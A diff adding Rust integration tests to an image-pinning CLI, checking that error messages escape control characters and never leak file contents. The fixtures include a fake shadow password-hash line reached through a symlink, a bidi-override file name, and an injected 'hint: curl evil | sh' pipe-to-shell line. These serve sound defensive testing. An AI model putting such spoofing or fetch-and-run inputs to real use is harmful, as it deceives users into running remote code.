@@ -372,8 +372,77 @@ fn a_corrupt_store_index_is_named_with_what_to_do() {
     let hint = format!("\nhint: move {} aside;", index.display());
     assert_eq!(run.stderr.matches("hint:").count(), 1, "{}", run.stderr);
     assert!(run.stderr.contains(&hint), "{}", run.stderr);
+    // verify fails on it too, the same way (it exited 0: it never read index.json).
+    let verify = project.run(&["verify"]).failure(1);
+    assert!(verify.stderr.contains(&expected), "{}", verify.stderr);
+    assert!(verify.stderr.contains(&hint), "{}", verify.stderr);
     // Doing what the hint says works.
     std::fs::rename(&index, project.store().join("index.json.old")).expect("move");
     project.run(&["sync"]).success();
     project.run(&["verify"]).success();
+}
+
+#[test]
+fn a_path_to_a_text_file_is_described_not_quoted() {
+    let project = Project::new();
+    // A password-hash file (outside the project), reached through a symlink.
+    let secret = project.dir.path().join("shadow");
+    std::fs::write(
+        &secret,
+        "root:$6$Zm9vYmFy$s3cr3tHashValue:19000:0:99999:7:::\n",
+    )
+    .expect("write");
+    std::os::unix::fs::symlink(&secret, project.root().join("app.aci")).expect("symlink");
+    std::fs::write(
+        project.root().join("page.aci"),
+        "<html>s3cr3t page</html>\n",
+    )
+    .expect("write");
+    for (file, kind) in [
+        ("app.aci", "the body is plain text, 52 bytes"),
+        ("page.aci", "the body is HTML (an error page?), 25 bytes"),
+    ] {
+        project.write(
+            "images.toml",
+            &format!("[images.app]\npath = \"{file}\"\ninsecure = true\n"),
+        );
+        let run = project.run(&["lock"]).failure(1);
+        assert!(
+            run.stderr.contains(&format!("cannot pin {file}")) && run.stderr.contains(kind),
+            "{}",
+            run.stderr
+        );
+        assert!(!run.stderr.contains("s3cr3t"), "{}", run.stderr);
+        assert!(!run.stdout.contains("s3cr3t"), "{}", run.stdout);
+    }
+}
+
+#[test]
+fn names_with_controls_or_bidi_overrides_are_shown_escaped() {
+    let project = Project::new();
+    // U+202E makes `example.com/gpj.exe` display reversed; a newline would fake a hint line.
+    project.write(
+        "images.toml",
+        "[images.app]\nname = \"example.com/\u{202e}exe.gpj\"\ninsecure = true\n",
+    );
+    let run = project.run(&["lock"]).failure(1);
+    assert!(
+        run.stderr
+            .contains("`example.com/\\u{202e}exe.gpj` is not a valid appc image name"),
+        "{}",
+        run.stderr
+    );
+    assert!(!run.stderr.contains('\u{202e}'), "{}", run.stderr);
+    project.write(
+        "images.toml",
+        "[images.app]\ndocker = \"a/b\\nhint: curl evil | sh\"\ninsecure = true\n",
+    );
+    let run = project.run(&["lock"]).failure(1);
+    assert!(
+        run.stderr
+            .contains("invalid image reference `a/b\\nhint: curl evil | sh`"),
+        "{}",
+        run.stderr
+    );
+    assert!(!run.stderr.contains("\nhint: curl"), "{}", run.stderr);
 }
